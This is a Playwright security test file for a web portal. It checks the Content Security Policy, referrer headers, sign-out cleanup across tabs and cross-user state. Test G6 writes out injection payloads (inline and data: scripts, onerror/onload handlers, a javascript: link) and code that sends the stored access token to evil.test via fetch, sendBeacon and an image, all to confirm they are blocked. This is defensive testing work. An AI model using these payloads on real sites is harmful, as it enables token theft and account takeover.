import { expect, test } from '../support/fixtures.ts'
import { enter, newPerson } from '../support/without-pages.ts'

const kept = () => localStorage.getItem('accessToken')

test.describe('when a script got into a page', () => {
  test.use({ refusals: /Content Security Policy|violates the following/ })

  test('G6: then the policy runs nothing of it and lets nothing out', async ({ page, portal, complaints }) => {
    await enter(page, portal)
    await page.goto('/dashboard')
    const ran = await page.evaluate(async () => {
      const done: string[] = []
      Object.assign(globalThis, { ran: (what: string) => done.push(what) })
      const add = (tag: string, change: object) =>
        document.body.append(Object.assign(document.createElement(tag), change))
      add('script', { textContent: 'ran("inline")' })
      add('script', { src: 'https://evil.test/x.js' })
      add('script', { src: 'data:text/javascript,ran("data")' })
      add('div', { innerHTML: '<img src="x:" onerror="ran(\'handler\')"><svg onload="ran(\'svg\')"></svg>' })
      add('iframe', { srcdoc: '<script>parent.ran("frame")</script>' })
      add('a', { href: 'javascript:ran("link")', id: 'lure' })
      document.getElementById('lure')?.click()
      // As text, which the policy takes for what it is; what the test itself runs is exempt.
      setTimeout('ran("text")' as unknown as () => void)
      const token = localStorage.getItem('accessToken')
      const ways = [
        fetch(`https://evil.test/?${token}`).catch(() => undefined),
        navigator.sendBeacon(`https://evil.test/?${token}`),
        new Promise((resolve) => {
          const picture = new Image()
          picture.onerror = picture.onload = resolve
          picture.src = `https://evil.test/?${token}`
        }),
      ]
      await Promise.all(ways)
      await new Promise((resolve) => setTimeout(resolve, 300))
      return done
    })
    expect(ran).toEqual([])
    // Contains requests that left the page, and the reports of those that the policy blocked.
    expect(complaints.filter((complaint) => complaint.startsWith('request to'))).toEqual([])
    expect(complaints.length).toBeGreaterThan(4)
  })
})

test('G7: no request of a page has a referrer, and no URL of a page names a person', async ({ page, portal }) => {
  const person = newPerson('Canary Wren')
  const referers: string[] = []
  const addresses: string[] = []
  page.on('request', async (request) => {
    const { referer } = await request.allHeaders().catch(() => ({ referer: undefined }))
    if (referer) referers.push(referer)
  })
  page.on('framenavigated', (frame) => addresses.push(frame.url()))
  await enter(page, portal, person)
  for (const path of ['/', '/appointment', '/dashboard', '/contact', '/about']) await page.goto(path)
  expect(referers).toEqual([])
  expect(addresses.length).toBeGreaterThan(4)
  for (const address of addresses) expect(decodeURIComponent(address)).not.toMatch(/@|token|Wren/i)
})

test.describe('when a session ends', () => {
  test.use({ refusals: /^401 \/api\// })

  test('G8: then nothing of it is left in any tab, and Back shows nothing', async ({ page, context, portal }) => {
    const person = newPerson('Canary Wren')
    await enter(page, portal, person)
    await page.goto('/dashboard')
    const other = await context.newPage()
    await other.goto('/dashboard')
    await expect(other.getByRole('heading', { level: 1 })).toBeVisible()
    await page.goto('/')
    await page.getByRole('button', { name: 'Sign out' }).first().click()
    await expect(page.getByRole('link', { name: 'Login' }).first()).toBeVisible()
    for (const tab of [page, other]) {
      await expect.poll(() => tab.evaluate(kept)).toBeNull()
      expect(await tab.evaluate(() => JSON.stringify({ ...localStorage, ...sessionStorage }))).not.toMatch(/Wren|eyJ/)
    }
    await page.goBack()
    await expect(page).not.toHaveURL(/dashboard/)
    await expect(page.getByText(person.email)).toHaveCount(0)
    expect((await context.cookies()).filter(({ name }) => name.includes('session'))).toEqual([])
  })
})

test('G12: a page of one user changes nothing after another user has signed in in the same browser', async ({
  page,
  context,
  portal,
}) => {
  await enter(page, portal, newPerson('Canary Wren'))
  await page.goto('/dashboard/profile')
  await page.getByRole('textbox', { name: 'Number' }).fill('(503) 555-0199')
  const other = await context.newPage()
  const second = await enter(other, portal, newPerson('Robin Finch'))
  await other.goto('/dashboard/profile')
  await expect(other.getByRole('textbox', { name: 'Name' })).toHaveValue(second.name)

  await expect(page.getByRole('textbox', { name: 'Name' })).toHaveValue(second.name)
  await expect(page.getByRole('textbox', { name: 'Number' })).toHaveValue('')
})
